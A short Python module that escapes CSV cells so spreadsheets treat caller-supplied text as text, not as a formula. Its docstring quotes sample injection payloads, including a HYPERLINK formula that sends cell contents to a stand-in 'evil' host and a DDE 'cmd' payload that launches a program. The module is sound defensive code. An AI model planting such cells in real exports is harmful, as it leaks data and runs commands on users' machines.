"""Cells for CSV files a spreadsheet opens: caller-supplied text never becomes a live formula.

A name such as `=HYPERLINK("http://evil/?"&A1,"Bob")`, `+cmd|' /C calc'!A0` or `@SUM(A1:A9)`
runs as a formula when a spreadsheet opens the file. Such a cell is written with a leading
apostrophe, which spreadsheets read as "this is text" and do not show. A phone number or any
other cell of digits and separators only (`+13125550101`, `-5`, `+1 (415) 555-0101`) can call
no function, so it is left as it is: the host still reads numbers as numbers.
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9][0-9 ().\-/]*")
_QUOTE = "'"


def safe_cell(text: str) -> str:
    """`text` as a CSV cell a spreadsheet shows as text (see the module's docstring)."""
    if text.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
        return _QUOTE + text
    return text


def read_cell(text: str) -> str:
    """A cell `safe_cell` wrote, as it was before (its apostrophe dropped)."""
    if text.startswith(_QUOTE) and safe_cell(text[1:]) != text[1:]:
        return text[1:]
    return text
